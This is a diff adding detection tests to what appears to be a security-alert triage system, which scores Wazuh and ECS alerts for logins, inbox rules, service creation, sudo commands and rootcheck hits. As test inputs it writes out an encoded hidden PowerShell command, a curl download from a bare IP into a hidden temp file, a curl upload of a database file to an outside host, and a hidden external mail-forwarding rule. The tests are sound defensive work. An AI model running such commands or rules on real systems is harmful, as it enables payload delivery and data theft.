@@ -1013,3 +1013,98 @@ def test_a_base64_rule_on_a_value_too_short_to_encode_anything_is_disproven(data
                                          "mitre": {"id": ["T1027", "T1112"]}}})
     assert ("not_base64" in [f.get("rule") for f in threat.risk_factors]) is disproven
     assert (threat.false_positive["recommendation"] == "likely_false_positive") is disproven
+
+
+@pytest.mark.parametrize("response,behaviour", [("Failure", "login_failure"), ("Success", "login_success")])
+def test_a_console_login_cloudtrail_says_failed_is_a_failed_login(response, behaviour):
+    alert = {"timestamp": "2026-11-19T03:05:13.000+0000", "id": f"1.cl{response}", "agent": {"id": "0", "name": "wazuh"},
+             "rule": {"level": 5, "id": "80202", "description": "AWS Cloudtrail: signin.amazonaws.com - ConsoleLogin.",
+                      "groups": ["amazon", "aws", "aws_cloudtrail"]},
+             "data": {"integration": "aws", "aws": {
+                 "eventName": "ConsoleLogin", "sourceIPAddress": "198.51.100.144",
+                 "userIdentity": {"type": "IAMUser", "userName": "s.lindqvist"}, "responseElements": {"ConsoleLogin": response},
+                 **({"errorMessage": "Failed authentication"} if response == "Failure" else {})}}}
+    threat, = _ingest("wazuh", alert)
+    assert [b["name"] for b in threat.signal["behaviours"]] == [behaviour]
+
+
+def _inbox_rule(fmt, forward_to, folder):
+    parameters = {"Name": ".", "SubjectOrBodyContainsWords": "invoice;payment", "ForwardTo": forward_to,
+                  "MoveToFolder": folder, "MarkAsRead": "True"}
+    if fmt == "wazuh":
+        return {"timestamp": "2026-11-27T16:50:00.000+0000", "id": f"1.{forward_to}{folder}",
+                "agent": {"id": "0", "name": "wazuh"},
+                "rule": {"level": 3, "id": "91533", "description": "Office 365: Events from the Exchange admin audit log.",
+                         "groups": ["office365", "ExchangeAdmin"]},
+                "data": {"integration": "office365", "office365": {
+                    "Operation": "New-InboxRule", "UserId": "a.petrov@example.com", "ClientIP": "203.0.113.88:50412",
+                    "Parameters": [{"Name": k, "Value": v} for k, v in parameters.items()]}}}
+    return {"@timestamp": "2026-11-27T16:50:00Z", "kibana.alert.uuid": f"rule-{forward_to}{folder}",
+            "kibana.alert.rule.name": "M365 inbox rule", "kibana.alert.severity": "low",
+            "event": {"kind": "signal", "action": "New-InboxRule", "dataset": "o365.audit", "outcome": "success"},
+            "user": {"email": "a.petrov@example.com"}, "source": {"ip": "203.0.113.88"},
+            "o365": {"audit": {"UserId": "a.petrov@example.com", "Parameters": parameters}}}
+
+
+@pytest.mark.parametrize("fmt", ["wazuh", "ecs"])
+@pytest.mark.parametrize("forward_to,folder,band,techniques", [
+    ("ap.desk@mailbox-relay.example.net", "RSS Subscriptions", "HIGH", {"T1114.003", "T1564.008"}),
+    ("team-finance@example.com", "Inbox", "MEDIUM", set()),  # an inbox rule alone: persistence
+])
+def test_an_inbox_rule_forwarding_mail_outside_and_hiding_it_is_email_collection(fmt, forward_to, folder, band,
+                                                                                  techniques):
+    threat, = _ingest(fmt, _inbox_rule(fmt, forward_to, folder))
+    assert threat.severity == band
+    assert techniques <= set(_techniques(threat)) and not ({"T1114.003", "T1564.008"} - techniques) & set(_techniques(threat))
+
+
+@pytest.mark.parametrize("command,band", [("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "HIGH"),
+                                          ("C:\\Program Files\\Backup\\agent.exe --service", "MEDIUM")])
+def test_something_set_to_survive_a_reboot_that_runs_an_obfuscated_command_is_high(command, band):
+    alert = {"timestamp": "2026-11-22T02:13:05.640+0000", "id": f"1.7045{len(command)}", "agent": {"id": "3", "name": "ws-07"},
+             "rule": {"level": 5, "id": "61138", "description": "New Windows Service Created",
+                      "groups": ["windows", "windows_system"]},
+             "data": {"win": {"system": {"eventID": "7045"}, "eventdata": {"serviceName": "upd", "imagePath": command}}}}
+    threat, = _ingest("wazuh", alert)
+    assert threat.severity == band
+
+
+@pytest.mark.parametrize("command,hidden,fetched", [
+    ("/usr/bin/curl -s http://198.51.100.23/u/sysupd.sh -o /tmp/.sysupd.sh", True, True),
+    ("/usr/bin/curl -s https://packages.example.com/key.gpg -o /tmp/key.gpg", False, False),
+    ("curl -T /var/cache/.x/db.gz https://203.0.113.7:8443/up", False, False),
+])
+def test_a_download_from_a_bare_address_into_a_hidden_temporary_file(command, hidden, fetched):
+    alert = {"timestamp": "2026-12-03T14:26:09.000+0000", "id": f"1.sudo{len(command)}", "agent": {"id": "8", "name": "pos-gw-02"},
+             "rule": {"level": 3, "id": "5402", "description": "Successful sudo to ROOT executed.",
+                      "groups": ["syslog", "sudo"]},
+             "data": {"srcuser": "mkowalski", "dstuser": "root", "pwd": "/tmp", "command": command}}
+    threat, = _ingest("wazuh", alert)
+    names = [b["name"] for b in AgentRun.objects.get(threat=threat, kind="priority").data["behaviours"]]
+    assert ("hidden_artifact" in names) is hidden and ("T1105" in _techniques(threat)) is fetched
+
+
+def test_a_planned_change_naming_the_service_identity_explains_any_family():
+    customer = factories.make_customer(slug="acme-corp")
+    InfraEvent.objects.create(customer=customer, started_at=datetime(2026, 11, 21, 10, 20, tzinfo=UTC), kind="deployment",
+                              service="grades-api", description="grades-api 3.4.0: a dedicated task role reads its secret")
+    alert = {"@timestamp": "2026-11-21T10:41:55Z", "kibana.alert.uuid": "secret-1",
+             "kibana.alert.rule.name": "First Time Seen AWS Secret Value Accessed in Secrets Manager",
+             "kibana.alert.severity": "medium",
+             "event": {"kind": "signal", "action": "GetSecretValue", "dataset": "aws.cloudtrail", "outcome": "success"},
+             "user": {"name": "grades-api-task-role"}, "source": {"ip": "10.70.12.45"}}
+    threat, = factories.ingest_records("ecs", [alert], customer)
+    assert threat.severity == "LOW"
+    assert threat.false_positive["recommendation"] == "likely_benign_true_positive"
+
+
+@pytest.mark.parametrize("signature,band", [("(Generic)", "LOW"), ("(Adore Worm)", "MEDIUM")])
+def test_rootcheck_s_generic_trojan_signature_proves_nothing(signature, band):
+    alert = {"timestamp": "2026-11-20T04:00:00.000+0000", "id": f"1.rc{len(signature)}", "agent": {"id": "5", "name": "tc-02"},
+             "rule": {"level": 7, "id": "510", "description": "Host-based anomaly detection event (rootcheck).",
+                      "groups": ["ossec", "rootcheck"]},
+             "full_log": "Trojaned version of file '/usr/bin/diff' detected. Signature used: "
+                         f"'bash|^/bin/sh|file\\.h|proc\\.h|/dev/[^n]|^/bin/.*sh' {signature}.",
+             "data": {"title": "Trojaned version of file detected.", "file": "/usr/bin/diff"}}
+    threat, = _ingest("wazuh", alert)
+    assert threat.severity == band
